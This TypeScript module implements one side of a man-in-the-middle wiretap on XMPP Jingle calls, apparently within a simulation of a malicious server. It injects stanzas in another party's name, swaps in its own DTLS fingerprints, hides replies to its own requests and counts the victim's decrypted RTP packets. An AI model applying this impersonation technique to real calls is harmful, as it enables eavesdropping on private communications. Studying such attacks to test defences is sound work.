/** One end of a wiretap: media towards one party, and Jingle with that party in the other one's name. */
import { matchAnswer } from '../../media/described.ts';
import type { DescribedContent, MediaFact, MediaSession, SessionDescription } from '../../media/port.ts';
import type { SessionId, StanzaId } from '../../stanzas/identifiers.ts';
import { writeJingle } from '../../stanzas/jingle.ts';
import type { JingleContent, MediaKinds, ReceivedJingle } from '../../stanzas/jingle.ts';
import type { ReceivedFingerprint } from '../../stanzas/ice-udp.ts';
import { writeIq } from '../../stanzas/stanza.ts';
import type { Role } from '../party.ts';
import type { AttackMeans } from './attack.ts';

/** How the ids of our own requests begin: the answers to them must not reach whom we speak for. */
const OWN_ID = 'wiretap-';

export class WiretapEnd {
  readonly #means: AttackMeans;
  readonly #victim: Role;
  readonly #feigned: Role;
  readonly #sessionId: SessionId;
  #mediaSession: MediaSession | undefined;
  #orders: Promise<void> = Promise.resolve();
  #own: SessionDescription | undefined;
  #packets = 0;
  #requests = 0;

  /**
   * @param victim   whom this end talks to
   * @param feigned  in whose name
   */
  constructor(means: AttackMeans, sessionId: SessionId, victim: Role, feigned: Role) {
    this.#means = means;
    this.#sessionId = sessionId;
    this.#victim = victim;
    this.#feigned = feigned;
  }

  /** RTP packets of the victim, decrypted by the server. */
  get heardPackets(): number {
    return this.#packets;
  }

  /** Sends an offer of our own. */
  offer(media: MediaKinds): void {
    this.#order(async (mediaSession) => {
      const offer = await mediaSession.createOffer(media);
      if (offer.ok) this.#describe('session-initiate', offer.value);
    });
  }

  /** Takes the victim's answer to it. */
  receiveAnswer(answer: SessionDescription): void {
    this.#order(async (mediaSession) => {
      const matched = this.#own && matchAnswer(this.#own, answer);
      if (matched?.ok === true) await mediaSession.setRemote(matched.value);
    });
  }

  /** Answers the victim's offer. */
  answer(offer: SessionDescription): void {
    this.#order(async (mediaSession) => {
      const answer = await mediaSession.createAnswer(offer);
      if (answer.ok) this.#describe('session-accept', answer.value);
    });
  }

  receiveCandidates({ contents }: ReceivedJingle): void {
    for (const { name, transport } of contents) {
      this.#order(async (mediaSession) => mediaSession.addCandidates(name, transport?.candidates ?? []));
    }
  }

  close(): void {
    this.#mediaSession?.close();
  }

  /** One thing after the other, as the media port wants it. */
  #order(run: (mediaSession: MediaSession) => Promise<void>): void {
    const mediaSession = (this.#mediaSession ??= this.#means.media.open(
      (fact) => this.#hear(fact),
      undefined,
      () => {
        this.#packets += 1;
      },
    ));
    this.#orders = this.#orders.then(() => run(mediaSession));
  }

  #hear(fact: MediaFact): void {
    if (fact.kind !== 'candidate') return;
    const content = this.#own?.contents.find(({ name }) => name === fact.contentName);
    if (content === undefined) return;
    const transport = { ...content.transport, candidates: [fact.candidate], options: [] };
    this.#send('transport-info', [onTheWire({ ...content, transport }, [])]);
  }

  #describe(action: 'session-accept' | 'session-initiate', own: SessionDescription): void {
    this.#own = own;
    const contents = own.contents.map((content) => onTheWire(content, [content.transport.fingerprint]));
    this.#send(action, contents, own.groups);
  }

  #send(
    action: ReceivedJingle['action'],
    contents: ReceivedJingle['contents'],
    groups: ReceivedJingle['groups'] = [],
  ): void {
    this.#requests += 1;
    const [from, to] = [this.#feigned.resource, this.#victim.resource];
    const jingle = writeJingle({
      action,
      sessionId: this.#sessionId,
      initiator: undefined,
      responder: undefined,
      contents,
      groups,
      reason: undefined,
      extensions: [],
    });
    const id = `${OWN_ID}${this.#victim.name}-${this.#requests}` as StanzaId;
    this.#means.inject({ from, to, stanza: writeIq({ kind: 'iq', type: 'set', id, from, to, children: [jingle] }) });
  }
}

/** Whether an IQ has the id of a request of ours. */
export function isOwnId(stanzaId: StanzaId): boolean {
  return stanzaId.startsWith(OWN_ID);
}

function onTheWire(
  content: DescribedContent,
  fingerprint: readonly ReceivedFingerprint[],
): JingleContent<readonly ReceivedFingerprint[]> {
  return { ...content, transport: { ...content.transport, fingerprint } };
}
